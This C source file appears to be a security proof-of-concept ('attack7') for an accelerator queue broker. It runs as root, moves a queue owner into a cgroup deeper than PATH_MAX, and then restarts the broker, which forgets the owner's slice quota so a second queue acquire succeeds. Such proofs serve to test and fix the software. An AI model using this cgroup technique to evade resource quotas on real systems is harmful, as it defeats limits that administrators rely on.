// SPDX-License-Identifier: MIT
/*
 * Proof (attack7): a queue's [slice:]/[unit:] pool is lost across a broker
 * restart when its owner's cgroup cannot be read at adoption
 * (daemon/service/fdstore.c adopt_group: "it counts in no unit").  An owner
 * in a delegated subtree can make its cgroup path longer than the kernel
 * prints (> PATH_MAX) after acquiring; here root plays that move.
 * Config: [slice:-.slice] max_queues = 1.  Root, a writable cgroup2 (hybrid or unified).
 * Build (after make B=build-san SAN=1 build-san/accel-broker build-san/tests/test_reconnect):
 *   gcc -std=gnu11 -g -fsanitize=address,undefined -D_GNU_SOURCE -Iinclude -Icommon -Itests/integration \
 *     -o build-san/tests/proof_restart_unit_escape proof/restart_unit_escape.c \
 *     build-san/obj/tests/integration/harness.o build-san/libcommon.a -lcmocka -lsystemd -ljson-c -lz
 *   ASAN_OPTIONS=detect_leaks=0 build-san/tests/proof_restart_unit_escape
 *   before the restart: a second acquire -> QuotaExceeded
 *   after the restart:  a second acquire -> succeeds (the pool forgot the first)
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>
#include <systemd/sd-daemon.h>

#include "harness.h"

#define STORE_MAX 8
#define STORE_FDS 2
#define CHECK(x) do { if (!(x)) { fprintf(stderr, "FAILED %s:%d: %s\n", __FILE__, __LINE__, #x); exit(2); } } while (0)

struct fd_store {
	int sock;
	char path[128];
	struct { char name[256]; int fds[STORE_FDS]; unsigned n_fds; } e[STORE_MAX];
	unsigned n;
};
static struct fd_store store;
static struct broker_proc first, second;

static void store_receive(struct fd_store *s)
{
	union { struct cmsghdr h; char b[CMSG_SPACE(sizeof(int) * STORE_FDS) + CMSG_SPACE(sizeof(struct ucred))]; } control;
	char buf[1024];
	struct iovec iov = { buf, sizeof(buf) - 1 };
	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control) };
	struct pollfd p = { .fd = s->sock, .events = POLLIN };
	int fds[STORE_FDS];
	unsigned n_fds = 0;
	const char *name;
	ssize_t n;

	CHECK(poll(&p, 1, 5000) == 1);
	n = recvmsg(s->sock, &mh, MSG_CMSG_CLOEXEC);
	CHECK(n >= 0);
	buf[n] = '\0';
	for (struct cmsghdr *c = CMSG_FIRSTHDR(&mh); c; c = CMSG_NXTHDR(&mh, c))
		if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS) {
			n_fds = (unsigned)((c->cmsg_len - CMSG_LEN(0)) / sizeof(int));
			memcpy(fds, CMSG_DATA(c), n_fds * sizeof(int));
		}
	name = strstr(buf, "FDNAME=");
	if (strstr(buf, "FDSTORE=1") && name && n_fds > 0) {
		snprintf(s->e[s->n].name, sizeof(s->e[s->n].name), "%.*s", (int)strcspn(name + 7, "\n"), name + 7);
		memcpy(s->e[s->n].fds, fds, n_fds * sizeof(int));
		s->e[s->n++].n_fds = n_fds;
		return;
	}
	for (unsigned k = 0; k < n_fds; k++)
		close(fds[k]);
}

static void store_wait(uint64_t id)
{
	char prefix[32];

	snprintf(prefix, sizeof(prefix), "q1.%llu.", (unsigned long long)id);
	for (int t = 0; t < 64; t++) {
		for (unsigned i = 0; i < store.n; i++)
			if (!strncmp(store.e[i].name, prefix, strlen(prefix)))
				return;
		store_receive(&store);
	}
	CHECK(!"stored");
}

static void keep_in_store(void *data) { (void)data; setenv("NOTIFY_SOCKET", store.path, 1); }

static void pass_store(void *data)
{
	char names[STORE_MAX * STORE_FDS * 257] = "", num[16];
	int high[STORE_MAX * STORE_FDS], n = 0;

	(void)data;
	for (unsigned i = 0; i < store.n; i++)
		for (unsigned k = 0; k < store.e[i].n_fds; k++) {
			high[n++] = fcntl(store.e[i].fds[k], F_DUPFD_CLOEXEC, 100);
			if (names[0])
				strcat(names, ":");
			strcat(names, store.e[i].name);
		}
	for (int i = 0; i < n; i++)
		dup2(high[i], SD_LISTEN_FDS_START + i);
	keep_in_store(NULL);
	snprintf(num, sizeof(num), "%d", n);
	setenv("LISTEN_FDS", num, 1);
	snprintf(num, sizeof(num), "%d", (int)getpid());
	setenv("LISTEN_PID", num, 1);
	setenv("LISTEN_FDNAMES", names, 1);
}

#define ACQUIRE "{\"method\":\"org.accelbroker.Broker.AcquireQueue\",\"parameters\":{\"device\":\"hisi_zip-0\"}}"

static void acquire_says(const char *sock, char *reply, size_t size)
{
	int fd = raw_connect(sock);

	CHECK(fd >= 0);
	CHECK(raw_call(fd, ACQUIRE, reply, size) > 0);
	/* keep the connection (and the queue) open: leak fd on purpose */
}

/* A cgroup path longer than PATH_MAX under the unified hierarchy; its innermost dir fd. */
#define DEPTH 18
static char comp[241];
static int deep_cgroup(const char *top)
{
	int dfd = open(top, O_RDONLY | O_DIRECTORY);

	memset(comp, 'a', sizeof(comp) - 1);
	for (int i = 0; i < DEPTH && dfd >= 0; i++) {
		int next;
		if (mkdirat(dfd, comp, 0755) < 0 && errno != EEXIST)
			return -1;
		next = openat(dfd, comp, O_RDONLY | O_DIRECTORY);
		close(dfd);
		dfd = next;
	}
	return dfd;
}

static void deep_cgroup_remove(const char *top)
{
	char path[8192];

	for (int d = DEPTH; d > 0; d--) {
		int n = snprintf(path, sizeof(path), "%s", top);
		int dfd;
		for (int i = 0; i < d - 1; i++)
			n += snprintf(path + n, sizeof(path) - n, "/%s", comp);
		/* path may exceed PATH_MAX for open(): walk it */
		dfd = open(top, O_RDONLY | O_DIRECTORY);
		for (int i = 0; i < d - 1 && dfd >= 0; i++) {
			int next = openat(dfd, comp, O_RDONLY | O_DIRECTORY);
			close(dfd);
			dfd = next;
		}
		if (dfd >= 0) {
			unlinkat(dfd, comp, AT_REMOVEDIR);
			close(dfd);
		}
	}
	rmdir(top);
}

int main(void)
{
	static char tree[] = "/tmp/accel-attack7-XXXXXX";
	char dev[128], conf[160], node[192], reply[4096], pidbuf[16], cgpath[64], top[128];
	const char *args[] = { "--sim", "0", "--sysfs-root", tree, "--dev-root", dev, "--config", conf, NULL };
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int go[2], ready[2], dfd, procs, cg;
	uint64_t id;
	pid_t owner;
	FILE *f;
	char c;

	CHECK(fake_uacce_tree(tree, dev, sizeof(dev)) == 0);
	snprintf(node, sizeof(node), "%s/hisi_zip-0", dev);
	CHECK(unlink(node) == 0);
	CHECK(mknod(node, S_IFCHR | 0600, makedev(1, 3)) == 0);
	snprintf(conf, sizeof(conf), "%s/broker.conf", tree);
	f = fopen(conf, "w");
	fputs("[defaults]\nlifetime = process\n[slice:-.slice]\nmax_queues = 1\n", f);
	fclose(f);
	snprintf(store.path, sizeof(store.path), "%s/notify", tree);
	strcpy(sa.sun_path, store.path);
	store.sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	CHECK(bind(store.sock, (struct sockaddr *)&sa, sizeof(sa)) == 0);
	CHECK(broker_start_with(&first, args, keep_in_store, NULL) == 0);

	/* The owner: acquires one queue, reports its id, then waits. */
	CHECK(pipe(go) == 0 && pipe(ready) == 0);
	owner = fork_child();
	if (owner == 0) {
		acquire_says(first.sock, reply, sizeof(reply));
		const char *at = strstr(reply, "\"queue_id\":");
		id = at ? strtoull(at + 11, NULL, 10) : 0;
		(void)!write(ready[1], &id, sizeof(id));
		(void)!read(go[0], &c, 1);
		_exit(0);
	}
	CHECK(read(ready[0], &id, sizeof(id)) == sizeof(id) && id > 0);
	store_wait(id);
	printf("owner pid %d holds queue %llu\n", (int)owner, (unsigned long long)id);
	acquire_says(first.sock, reply, sizeof(reply));
	printf("before restart, a second acquire: %.160s\n", reply);

	/* The owner moves into a cgroup whose path the kernel cannot print. */
	snprintf(top, sizeof(top), "/sys/fs/cgroup/unified/attack7-%d", (int)getpid());
	CHECK(mkdir(top, 0755) == 0);
	dfd = deep_cgroup(top);
	CHECK(dfd >= 0);
	procs = openat(dfd, "cgroup.procs", O_WRONLY);
	snprintf(pidbuf, sizeof(pidbuf), "%d", (int)owner);
	CHECK(procs >= 0 && write(procs, pidbuf, strlen(pidbuf)) > 0);
	close(procs);
	snprintf(cgpath, sizeof(cgpath), "/proc/%d/cgroup", (int)owner);
	cg = open(cgpath, O_RDONLY);
	{
		char b[8192];
		ssize_t n = cg >= 0 ? read(cg, b, sizeof(b)) : -1;
		printf("read %s: %zd (%s)\n", cgpath, n, n < 0 ? strerror(errno) : "ok");
	}

	/* systemd restarts the broker: SIGTERM, the store passed to the next one. */
	kill(first.pid, SIGTERM);
	CHECK(wait_status(first.pid) == 0);
	first.pid = 0;
	{
		struct pollfd p = { .fd = store.sock, .events = POLLIN };
		for (int i = 0; i < 64 && poll(&p, 1, 0) == 1; i++)
			store_receive(&store);
	}
	CHECK(broker_start_with(&second, args, pass_store, NULL) == 0);
	acquire_says(second.sock, reply, sizeof(reply));
	printf("after restart, a second acquire: %.160s\n", reply);
	{
		char cmd[256];
		snprintf(cmd, sizeof(cmd), "grep -h 'cgroup' %s", second.log);
		(void)!system(cmd);
	}
	(void)!write(go[1], "x", 1);
	wait_status(owner);
	close(dfd);
	deep_cgroup_remove(top);
	broker_stop(&second);
	return 0;
}
